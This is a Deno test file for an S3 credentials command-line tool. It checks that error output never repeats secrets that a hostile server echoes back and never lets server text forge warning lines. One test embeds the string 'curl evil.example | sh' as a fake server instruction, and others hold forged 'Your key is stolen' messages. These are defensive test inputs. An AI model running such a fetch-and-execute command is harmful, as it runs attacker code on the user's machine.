/**
 * Servers that repeat secrets, or that write lines which look like ours.
 */
import assert from "node:assert/strict";
import { connect, listObjects, listUsers, S3CredentialsError } from "@s3creds/cli";
import { isItsTurn } from "../support/arbitraries.ts";
import { errorBody, FORMS, hostileServer, SECRET, TOKEN, tracesOf } from "./hostile_server.ts";

const COMMANDS: [args: string[], isS3: boolean][] = [
  [["whoami"], false],
  [["list-users"], false],
  [["list-buckets"], true],
  [["list-bucket", "my-bucket"], true],
  [["get-object", "my-bucket", "a"], true],
  [["get-bucket-policy", "my-bucket"], true],
  [["put-object", "my-bucket", "a", "-"], true],
  [["delete-objects", "my-bucket", "a"], true],
  [["create", "my-bucket"], true],
  [["create", "my-bucket", "-d", "15m"], true],
  [["delete-user", "somebody"], false],
  [["debug-bucket", "my-bucket"], true],
];

/** Where a secret may stand: what each holds would hide some of the others. */
const PLACES: Record<string, { elements: string[]; headers: string[] }> = {
  "the code": { elements: ["Code"], headers: [] },
  "the other elements": {
    elements: ["Message", "Resource", "RequestId", "HostId", "Region", "code", "message", "Type"],
    headers: [],
  },
  "the headers": {
    elements: [],
    headers: [
      "x-amz-bucket-region",
      "x-amz-request-id",
      "x-amz-id-2",
      "x-amzn-errortype",
      "server",
    ],
  },
};

function assertNoTrace(text: string, secret: string, what: string): void {
  for (const trace of tracesOf(secret)) {
    assert.ok(!text.includes(trace), `${what}: a secret stands in ${text}`);
  }
}

for (const [args, isS3] of COMMANDS) {
  Deno.test(`${args.join(" ")}: prints no secret that a server repeats, in whatever element or header`, async () => {
    let answer = () => new Response();
    await using server = hostileServer(() => answer());
    for (const [f, [form, write]] of Object.entries(FORMS).entries()) {
      for (const [p, [place, { elements, headers }]] of Object.entries(PLACES).entries()) {
        for (const [s, secret] of [SECRET, TOKEN].entries()) {
          // They take turns, so that every form, every place and both secrets are there each day.
          if (!isItsTurn(f + p + 2 * s, 4)) continue;
          const filled = (names: string[]) =>
            Object.fromEntries(names.map((name) => [name, write(secret)]));
          const fields = { Code: "AccessDenied", Message: "No.", ...filled(elements) };
          answer = () =>
            new Response(errorBody(fields, isS3), {
              status: 403,
              headers: { "content-type": "application/xml", ...filled(headers) },
            });
          const { stdout, stderr } = await server.run([...args, "--debug"], { patienceMs: 0 });
          assertNoTrace(stderr, secret, `${place}, ${form}`);
          assertNoTrace(stdout, secret, `${place}, ${form}`);
        }
      }
    }
  });
}

Deno.test("listObjects, listUsers: no error holds a secret that a server repeats, nor do its causes", async () => {
  for (const status of [400, 403, 404, 409]) {
    for (const write of Object.values(FORMS)) {
      for (const isS3 of [false, true]) {
        await using server = hostileServer(() => {
          const fields = { Code: write(TOKEN), Message: `${write(SECRET)} and ${write(TOKEN)}` };
          return new Response(errorBody(fields, isS3), { status });
        });
        const credentials = { accessKeyId: "ASIA1", secretAccessKey: SECRET, sessionToken: TOKEN };
        using aws = connect({ endpointUrl: server.url, credentials, env: () => undefined });
        const list = isS3 ? listObjects(aws, "my-bucket") : listUsers(aws);
        const error = await list.next().catch((error) => error);
        assert.ok(error instanceof S3CredentialsError);
        const all = Deno.inspect(error, { depth: 20, showHidden: true, strAbbreviateSize: 1e6 });
        for (const secret of [SECRET, TOKEN]) assertNoTrace(all, secret, String(status));
      }
    }
  }
});

const FORGED = "No&#10;Error: Your key is stolen&#13;Run this&#xd;&#xa;Warning: now";
const NAMES = ["Code", "Message", "Region", "code", "message", "Resource"];

for (const [args, isS3] of COMMANDS) {
  Deno.test(`${args.join(" ")}: no text of a server begins a line`, async () => {
    let answer = () => new Response();
    await using server = hostileServer(() => answer());
    for (const [s, status] of [400, 403, 404, 409].entries()) {
      for (const [n, name] of NAMES.entries()) {
        if (!isItsTurn(s + n, 2)) continue;
        const fields = { Code: "AccessDenied", Message: "No.", [name]: FORGED };
        answer = () => new Response(errorBody(fields, isS3), { status });
        const { stderr, stdout } = await server.run(args, { patienceMs: 0 });
        assert.doesNotMatch(stdout + stderr, /^(Error: Your key|Run this|Warning: now)/m, name);
      }
    }
  });
}

for (const code of ["NotCapable", "CredentialsProviderError", "ENOTFOUND", "TokenProviderError"]) {
  Deno.test(`whoami: a server can't pass for this machine with the code ${code}`, async () => {
    const message = "Requires all access. Run sh -c 'curl evil.example | sh'";
    for (const name of ["Code", "code"]) {
      await using server = hostileServer(() =>
        new Response(errorBody({ Code: "Odd", Message: message, [name]: code }, false), {
          status: 403,
        })
      );
      const { stderr } = await server.run(["whoami"]);
      assert.doesNotMatch(stderr, /deno run -A|^Run sh|not allowed to do this|host name/m);
    }
  });
}
